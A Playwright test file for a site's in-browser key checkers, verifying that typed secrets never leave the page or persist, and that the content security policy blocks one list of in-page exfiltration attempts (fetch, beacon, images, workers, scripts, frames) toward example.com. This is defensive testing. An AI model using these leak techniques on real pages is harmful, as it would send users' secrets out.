import { readFileSync } from 'node:fs';
import { expect, openFolds, test, wakeAll } from './test';

/** A made-up key of the right shape; the half is long enough to be found even when it is cut or encoded. */
const CANARY = 'cAnArYcAnArY0123456789ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopq';
const ADDRESS = '198.51.100.77';

const PLACES = ['/ru/auth-invalid/', '/', '/de/new-key/', '/tr/find-the-cause/?outage=only_this'];

for (const path of PLACES) {
  test(`nothing typed into any checker on ${path} leaves the page`, async ({ page, context }) => {
    const sent: string[] = [];
    context.on('request', (request) => sent.push(`${request.url()} ${request.postData() ?? ''}`));
    await page.goto(path);
    await wakeAll(page);
    // Opening a fold may load the code behind it; from then on there is nothing to load.
    const summaries = page.locator('section details summary');
    for (let index = 0; index < (await summaries.count()); index += 1) await summaries.nth(index).click();
    const fields = page.locator('section:not(:has(form)) textarea');
    await expect(fields.first()).toBeAttached();
    const count = await fields.count();
    expect(count).toBeGreaterThan(0);
    // A field that is used for the first time may load its code; from then on there is nothing to load.
    for (let index = 0; index < count; index += 1) await fields.nth(index).focus();
    const sentIn300Ms = async () => {
      const already = sent.length;
      await page.waitForTimeout(300);
      return sent.length - already;
    };
    await expect.poll(sentIn300Ms).toBe(0);
    const before = sent.length;
    for (let index = 0; index < count; index += 1) {
      await fields.nth(index).fill(`${CANARY}, ${ADDRESS}`);
      await fields.nth(index).blur();
    }
    await expect(page.locator('[data-tone]').first()).toBeVisible();
    await page.waitForTimeout(500);

    expect(sent.slice(before)).toEqual([]);
    const kept = await page.evaluate(async () =>
      JSON.stringify([
        { ...localStorage },
        { ...sessionStorage },
        document.cookie,
        location.href,
        history.state,
        document.title,
        (await indexedDB.databases()).map(({ name }) => name),
        await caches.keys(),
      ]),
    );
    for (const piece of [CANARY, CANARY.slice(0, 20), ADDRESS]) {
      expect(kept).not.toContain(piece);
      expect(sent.join('\n')).not.toContain(piece);
      expect(readFileSync('.cache/e2e-server.log', 'utf8')).not.toContain(piece);
    }
  });
}

test('the browser refuses every way out but the feedback address, even if a script tried', async ({ browser }) => {
  const page = await (await browser.newContext()).newPage();
  const reached: string[] = [];
  // Not the request event: the driver reports it for what the policy has stopped, too.
  page.on('response', (response) => reached.push(response.url()));
  await page.goto('/auth-invalid/');
  const open = await page.evaluate(async () => {
    const ways: Record<string, () => unknown> = {
      'fetch elsewhere': () => fetch('https://example.com/?leak').catch(() => undefined),
      'fetch here': () => fetch('/healthz?leak').catch(() => undefined),
      beacon: () => navigator.sendBeacon('/healthz?leak', 'x'),
      'image elsewhere': () => Object.assign(new Image(), { src: 'https://example.com/x.png?leak' }),
      'image here': () => Object.assign(new Image(), { src: '/x.png?leak' }),
      worker: () => new Worker('/x.js?leak'),
      'worker from data': () => new Worker('data:text/javascript,fetch("https://example.com/?leak")'),
      frame: () => document.body.append(Object.assign(document.createElement('iframe'), { src: '/?leak' })),
      'script elsewhere': () =>
        document.body.append(Object.assign(document.createElement('script'), { src: 'https://example.com/x.js?leak' })),
      'event source': () => new EventSource('/api/report?leak'),
    };
    const results: string[] = [];
    for (const [name, attempt] of Object.entries(ways)) {
      const violation = new Promise<boolean>((resolve) => {
        document.addEventListener('securitypolicyviolation', () => resolve(true), { once: true });
        setTimeout(() => resolve(false), 1500);
      });
      try {
        await attempt();
      } catch {
        // Some ways throw where others only report.
      }
      if (!(await violation)) results.push(name);
    }
    return results;
  });
  expect(open).toEqual([]);
  expect(reached.filter((url) => url.includes('leak'))).toEqual([]);
});

test('a widget whose code does not arrive says so, and wakes up when the network is back', async ({ browser }) => {
  // A page of its own: the failure is reported on the console, and here that is right.
  const context = await browser.newContext();
  const page = await context.newPage();
  await page.goto('/auth-invalid/');
  await openFolds(page);
  await context.setOffline(true);
  const checker = page.locator('#permission-check');
  await checker.scrollIntoViewIfNeeded();
  await expect(checker.locator('[data-tone=checker_failed]')).toBeVisible();
  await context.setOffline(false);
  await expect(checker.locator('[data-tone=checker_failed]')).toBeHidden();
  await checker.locator('input[type=radio]').first().check();
  await expect(checker.locator('[data-lead]').first()).toBeVisible();
});

test('a secret does not survive a reload, the back button or a change of language', async ({ page }) => {
  await page.goto('/auth-invalid/');
  await wakeAll(page);
  const field = page.locator('#key-check-secret');
  await field.fill(CANARY);
  await page.reload();
  await expect(field).toHaveValue('');

  await openFolds(page);
  await field.scrollIntoViewIfNeeded();
  await expect(page.locator('[data-island=KeyCheck]')).toHaveAttribute('data-awake', '');
  await field.fill(CANARY);
  await page.goto('/privacy/');
  await page.goBack();
  await expect(field).toHaveValue('');

  await openFolds(page);
  await field.fill(CANARY);
  await page.locator('a[data-language=de]').click();
  await expect(page).toHaveURL(/\/de\/auth-invalid\//);
  await expect(page.locator('#key-check-secret')).toHaveValue('');
});
